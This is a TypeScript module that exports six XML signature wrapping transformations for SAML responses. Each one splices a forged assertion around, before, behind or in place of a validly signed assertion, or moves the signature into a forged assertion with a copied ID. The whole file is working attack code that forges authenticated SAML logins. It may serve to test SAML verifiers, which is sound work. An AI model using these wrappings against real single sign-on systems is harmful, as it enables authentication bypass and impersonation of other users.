const assertionOf = (xml: string) => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
const signatureOf = (xml: string) => /<Signature[\s\S]*<\/Signature>/.exec(xml)?.[0] ?? '';

/** Ways to add a valid signature to a response whose assertion it does not cover. */
export const WRAPPINGS: Record<string, (signed: string, forged: string) => string> = {
  'a forged assertion before the signed one': (signed, forged) =>
    signed.replace('<saml:Assertion', `${assertionOf(forged)}<saml:Assertion`),
  'a forged assertion behind the signed one': (signed, forged) =>
    signed.replace('</samlp:Response>', `${assertionOf(forged)}</samlp:Response>`),
  'the signed assertion inside a forged one': (signed, forged) =>
    forged.replace('</saml:Assertion>', `${assertionOf(signed)}</saml:Assertion>`),
  'the signed assertion in an extension, a forged one in its place': (signed, forged) =>
    forged.replace(
      '<samlp:Status>',
      `<samlp:Extensions>${assertionOf(signed)}</samlp:Extensions><samlp:Status>`,
    ),
  'the signature moved into a forged assertion with the same id': (signed, forged) => {
    const id = /<saml:Assertion[^>]* ID="([^"]+)"/.exec(signed)?.[1] ?? '';
    const copy = assertionOf(forged).replace(/ ID="[^"]+"/, ` ID="${id}"`);
    const carrier = copy.replace('</saml:Assertion>', `${signatureOf(signed)}</saml:Assertion>`);
    return forged.replace(assertionOf(forged), carrier);
  },
  'the signed assertion kept as an object of the signature in a forged one with the same id': (
    signed,
    forged,
  ) => {
    const id = /<saml:Assertion[^>]* ID="([^"]+)"/.exec(signed)?.[1] ?? '';
    const original = assertionOf(signed).replace(signatureOf(signed), '');
    const signature = signatureOf(signed).replace('</Signature>', `<Object>${original}</Object></Signature>`);
    const copy = assertionOf(forged).replace(/ ID="[^"]+"/, ` ID="${id}"`);
    return forged.replace(
      assertionOf(forged),
      copy.replace('</saml:Assertion>', `${signature}</saml:Assertion>`),
    );
  },
};
